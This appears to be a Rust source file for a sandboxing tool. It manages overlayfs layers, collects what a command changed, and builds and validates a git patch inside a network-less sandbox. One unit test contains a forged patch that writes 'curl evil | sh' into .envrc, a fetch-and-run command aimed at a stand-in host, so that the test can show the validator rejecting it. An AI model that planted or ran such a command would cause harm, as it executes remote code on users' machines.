//! A workspace that is an overlay on the commit's shared checkout: where overlayfs can hold the
//! run's upper layer, what the command changed (the upper layer's names), and the patch, made by
//! git inside the run's own sandbox over what the overlay shows.

use std::path::{Path, PathBuf};

use warden_sandbox::{Output, Plan, Request, Sandbox};

/// Where git's directory of a shared checkout appears inside (the run's own, with its index).
pub(crate) const WORKTREE_INSIDE: &str = "/.warden/worktree";

/// The run's layer directory for an alias: `upper` (what the command wrote) and `work`
/// (overlayfs's own).
pub(crate) fn make_layer(path: &Path) -> Result<(), String> {
    use std::os::unix::fs::PermissionsExt as _;
    // Only warden's: what the command leaves there (a set-id file, say) is no one else's to run.
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o700))
        .map_err(|e| format!("{}: {e}", path.display()))?;
    for part in ["upper", "work"] {
        let dir = path.join(part);
        std::fs::create_dir_all(&dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    }
    Ok(())
}

/// Where `rel` of an overlay is on the host: in the upper layer `upper` where it has it (or
/// something on the way), else in the lower layer `lower` (unless a directory on the way was
/// made anew); a removed name is not there. The root and the path, for a read beneath it.
pub(crate) fn seen_at(
    upper: &Path,
    lower: &Path,
    rel: &Path,
) -> Result<(PathBuf, PathBuf), String> {
    use std::os::unix::fs::{FileTypeExt as _, MetadataExt as _};
    let mut at = upper.to_path_buf();
    let mut lower_shows = true;
    for part in rel.components() {
        at.push(part);
        match std::fs::symlink_metadata(&at) {
            Ok(m) if m.file_type().is_char_device() && m.rdev() == 0 => {
                return Err("not there (removed)".to_owned());
            }
            Ok(m) if m.is_dir() => lower_shows &= !warden_sandbox::overlay_opaque(&at),
            // A file or a link of the upper layer: read there (beneath, never followed).
            Ok(_) => return Ok((upper.to_path_buf(), upper.join(rel))),
            Err(_) if lower_shows => return Ok((lower.to_path_buf(), lower.join(rel))),
            Err(_) => return Err("not there".to_owned()),
        }
    }
    Ok((upper.to_path_buf(), upper.join(rel)))
}

/// What a command changed, by the names in the upper layer, relative to the overlay's root:
/// each file, link and removed name, and each directory made anew (opaque). The checkout's own
/// `.git` file is left out.
pub(crate) fn changed(upper: &Path) -> Vec<Vec<u8>> {
    use std::os::unix::ffi::OsStrExt as _;
    let mut out = Vec::new();
    let mut stack = vec![PathBuf::new()];
    while let Some(rel) = stack.pop() {
        let Ok(listing) = std::fs::read_dir(upper.join(&rel)) else {
            continue;
        };
        for entry in listing.flatten() {
            let name = rel.join(entry.file_name());
            if name == Path::new(".git") {
                continue;
            }
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() && !warden_sandbox::overlay_opaque(&upper.join(&name)) {
                stack.push(name);
                continue;
            }
            // A file, a link, a removed name (a character device), an opaque directory, or
            // something git does not keep.
            out.push(name.as_os_str().as_bytes().to_vec());
        }
    }
    out.sort();
    out
}

/// The script git runs inside, over the names in `/.warden/worktree/changed` (NUL-separated,
/// as many git processes as the names need): the new files not ignored marked as to be added,
/// then the diff from the commit. git's directory is the run's whatever the workspace's `.git`
/// says; nested repositories are never entered; what git writes (the empty blob of a new file)
/// goes to the sandbox's `/tmp`.
const SCRIPT: &str = r#"set -e
c=$1
export GIT_DIR=/.warden/worktree GIT_WORK_TREE="$PWD" GIT_LITERAL_PATHSPECS=1
mkdir -p /tmp/warden-objects
export GIT_OBJECT_DIRECTORY=/tmp/warden-objects
export GIT_ALTERNATE_OBJECT_DIRECTORIES=/.warden/git/objects
o="-c core.fsmonitor=false -c core.quotePath=false -c diff.ignoreSubmodules=all"
o="$o -c submodule.recurse=false -c advice.addEmptyPathspec=false"
xargs -0 -r git $o ls-files -z --others --exclude-standard --   < /.warden/worktree/changed > /.warden/worktree/untracked
git $o add --intent-to-add --pathspec-from-file=/.warden/worktree/untracked --pathspec-file-nul
xargs -0 -r git $o diff --binary --no-ext-diff --no-textconv --no-color   --ignore-submodules=all --no-renames "$c" -- < /.warden/worktree/changed
"#;

/// The patch from `commit` of the workspace at `target`, whose upper layer is `upper`: made by
/// git in a sandbox of the run's (`base`, with only the workspace and git's directories, that
/// one writable for git's index — `gitdir` on the host — and no network), over what the overlay
/// shows, for the names the upper layer holds. No change, no git: an empty patch. A patch that
/// names anything else, or was cut short, is refused.
pub(crate) fn patch(
    base: &Request,
    helper: &Path,
    target: &Path,
    upper: &Path,
    gitdir: &Path,
    commit: &str,
) -> Result<Vec<u8>, String> {
    let names = changed(upper);
    if names.is_empty() {
        return Ok(Vec::new());
    }
    let list = gitdir.join("changed");
    std::fs::write(&list, names.join(&0u8)).map_err(|e| format!("{}: {e}", list.display()))?;
    let mut request = base.clone();
    "/bin/sh".clone_into(&mut request.program);
    request.args = ["-c", SCRIPT, "sh", commit]
        .into_iter()
        .map(str::to_owned)
        .collect();
    request.cwd = Some(target.to_path_buf());
    // The environment warden's own git runs with on the host, and no other.
    let host_git = warden_sandbox::git::plain(target);
    request.env = [
        ("PATH", "/usr/bin:/bin"),
        ("HOME", "/tmp"),
        ("LANG", "C.UTF-8"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .chain(
        host_git
            .get_envs()
            .filter_map(|(k, v)| Some((k.to_str()?.to_owned(), v?.to_str()?.to_owned()))),
    )
    .collect();
    request.network = false;
    request.proxy_port = None;
    request.collect = Vec::new();
    request.sized = Vec::new();
    request.limits.timeout_ms = request.limits.timeout_ms.or(Some(600_000));
    request.limits.output_bytes = Some(256 << 20);
    // The workspace and git's directories only: nothing else the command left behind.
    request.mounts.retain(|(_, at, _)| {
        at == target || at.starts_with("/.warden/git") || at.starts_with(WORKTREE_INSIDE)
    });
    for (_, at, rw) in &mut request.mounts {
        if at == Path::new(WORKTREE_INSIDE) {
            *rw = true;
        }
    }
    let plan = Plan::new(&request).map_err(|e| format!("the patch's sandbox: {e}"))?;
    let outcome = Sandbox::new(helper)
        .run(&plan, Output::Capture)
        .map_err(|e| format!("the patch's sandbox: {e}"))?;
    if outcome.exit_code != 0 || outcome.timed_out {
        return Err(format!(
            "git diff in the workspace: {}",
            String::from_utf8_lossy(&outcome.stderr).trim()
        ));
    }
    if outcome.truncated {
        return Err("the patch is larger than 256 MiB: not kept".to_owned());
    }
    if outcome.stdout.is_empty() {
        // Only ignored files, or files touched and left as they were.
        return Ok(Vec::new());
    }
    within(&outcome.stdout, &names)?;
    Ok(outcome.stdout)
}

/// Checks that every path `patch` touches is one of `names` or below one, as the host's git
/// reads the patch (`git apply --numstat -z`, which applies nothing).
fn within(patch: &[u8], names: &[Vec<u8>]) -> Result<(), String> {
    // git's numstat names a rename or copy by its new name alone: none is made here (the diff
    // is asked for without), so one is forged.
    let header = |l: &[u8]| l.starts_with(b"rename from ") || l.starts_with(b"copy from ");
    if patch.split(|b| *b == b'\n').any(header) {
        return Err(
            "the patch renames or copies a file, which git here never writes: not kept".to_owned(),
        );
    }
    let known = |path: &[u8]| {
        names.iter().any(|n| {
            path == n.as_slice() || (path.starts_with(n) && path.get(n.len()) == Some(&b'/'))
        })
    };
    if let Some(stray) = touched(patch)?.into_iter().find(|p| !known(p)) {
        return Err(format!(
            "the patch names {}, which the command did not change: not kept",
            String::from_utf8_lossy(&stray)
        ));
    }
    Ok(())
}

/// Every path `patch` touches, as the host's git reads it (`git apply --numstat -z`, which
/// applies nothing), both names of a rename.
pub(crate) fn touched(patch: &[u8]) -> Result<Vec<Vec<u8>>, String> {
    use std::io::Write as _;
    let mut cmd = warden_sandbox::git::plain(&std::env::temp_dir());
    cmd.args(["apply", "--numstat", "-z", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().map_err(|e| format!("git apply: {e}"))?;
    let mut stdin = child.stdin.take().ok_or("git apply: no input")?;
    let writer = {
        let patch = patch.to_vec();
        std::thread::spawn(move || stdin.write_all(&patch))
    };
    let out_of = child
        .wait_with_output()
        .map_err(|e| format!("git apply: {e}"))?;
    let _ = writer.join();
    if !out_of.status.success() {
        return Err(format!(
            "the patch does not read as one: {}",
            String::from_utf8_lossy(&out_of.stderr).trim()
        ));
    }
    // Records: `added TAB deleted TAB path NUL`, or for a rename `added TAB deleted TAB NUL
    // old NUL new NUL`.
    let mut out = Vec::new();
    let mut fields = out_of.stdout.split(|b| *b == 0).filter(|f| !f.is_empty());
    while let Some(record) = fields.next() {
        let field = record.splitn(3, |b| *b == b'\t').nth(2).unwrap_or_default();
        let paths: Vec<&[u8]> = if field.is_empty() {
            vec![
                fields.next().unwrap_or_default(),
                fields.next().unwrap_or_default(),
            ]
        } else {
            vec![field]
        };
        out.extend(paths.into_iter().map(<[u8]>::to_vec));
    }
    Ok(out)
}

/// Makes what overlayfs left in a layer directory (its work directory, mode 0) removable by
/// whoever made it.
pub(crate) fn removable(path: &Path) -> std::io::Result<()> {
    use std::os::unix::fs::PermissionsExt as _;
    let mut stack = vec![path.join("work")];
    while let Some(dir) = stack.pop() {
        let meta = std::fs::symlink_metadata(&dir)?;
        if !meta.is_dir() {
            continue;
        }
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700))?;
        for entry in std::fs::read_dir(&dir)?.flatten() {
            stack.push(entry.path());
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const PATCH: &str = "diff --git a/slug.py b/slug.py\n\
        --- a/slug.py\n+++ b/slug.py\n@@ -1 +1 @@\n-a\n+b\n\
        diff --git a/docs/new.md b/docs/new.md\nnew file mode 100644\n\
        --- /dev/null\n+++ b/docs/new.md\n@@ -0,0 +1 @@\n+x\n";

    fn names(list: &[&str]) -> Vec<Vec<u8>> {
        list.iter().map(|n| n.as_bytes().to_vec()).collect()
    }

    #[test]
    fn a_patch_may_name_only_what_the_upper_layer_holds() {
        within(PATCH.as_bytes(), &names(&["docs", "slug.py"])).unwrap();
        within(PATCH.as_bytes(), &names(&["docs/new.md", "slug.py"])).unwrap();
        // A file the command could not write (a protected one, say) in a forged patch.
        let forged = format!(
            "{PATCH}diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n\
             +++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n"
        );
        let err = within(forged.as_bytes(), &names(&["docs", "slug.py"])).unwrap_err();
        assert!(err.contains(".envrc"), "{err}");
        // A name is not a prefix of another's.
        let err = within(PATCH.as_bytes(), &names(&["doc", "slug.py"])).unwrap_err();
        assert!(err.contains("docs/new.md"), "{err}");
        let renamed = "diff --git a/slug.py b/.envrc\nsimilarity index 100%\n\
            rename from slug.py\nrename to .envrc\n";
        let err = within(renamed.as_bytes(), &names(&["slug.py"])).unwrap_err();
        assert!(err.contains("renames"), "{err}");
        let from_protected = "diff --git a/.envrc b/slug.py\nsimilarity index 100%\n\
            rename from .envrc\nrename to slug.py\n";
        let err = within(from_protected.as_bytes(), &names(&["slug.py"])).unwrap_err();
        assert!(err.contains("renames"), "{err}");
        assert!(within(b"not a patch\n@@ x", &names(&["a"])).is_err());
    }

    #[test]
    fn a_path_of_the_overlay_is_read_from_the_upper_layer_where_it_is_there() {
        let dir = tempfile::tempdir().unwrap();
        let (upper, lower) = (dir.path().join("upper"), dir.path().join("lower"));
        std::fs::create_dir_all(upper.join("d")).unwrap();
        std::fs::create_dir_all(lower.join("d")).unwrap();
        std::fs::write(upper.join("d/new"), "new").unwrap();
        std::fs::write(lower.join("d/old"), "old").unwrap();
        let at = |rel: &str| seen_at(&upper, &lower, Path::new(rel)).map(|(_, p)| p);
        assert_eq!(at("d/new").unwrap(), upper.join("d/new"));
        assert_eq!(at("d/old").unwrap(), lower.join("d/old"));
        assert_eq!(at("e/x").unwrap(), lower.join("e/x"));
        // A removed name (overlayfs's whiteout: a character device 0:0, which needs root to
        // make outside an overlay) is not there, whatever the lower layer holds.
        let made = std::process::Command::new("mknod")
            .arg(upper.join("d/old"))
            .args(["c", "0", "0"])
            .status()
            .is_ok_and(|s| s.success());
        if made {
            assert!(at("d/old").unwrap_err().contains("removed"));
        }
    }

    #[test]
    fn the_upper_layers_names_are_files_removals_and_opaque_directories() {
        let dir = tempfile::tempdir().unwrap();
        let upper = dir.path();
        std::fs::create_dir_all(upper.join("a/b")).unwrap();
        std::fs::write(upper.join("a/b/f"), "x").unwrap();
        std::fs::write(upper.join("top"), "x").unwrap();
        std::fs::write(upper.join(".git"), "gitdir: elsewhere\n").unwrap();
        std::os::unix::fs::symlink("top", upper.join("link")).unwrap();
        let mut got = changed(upper);
        got.sort();
        assert_eq!(got, names(&["a/b/f", "link", "top"]));
    }
}
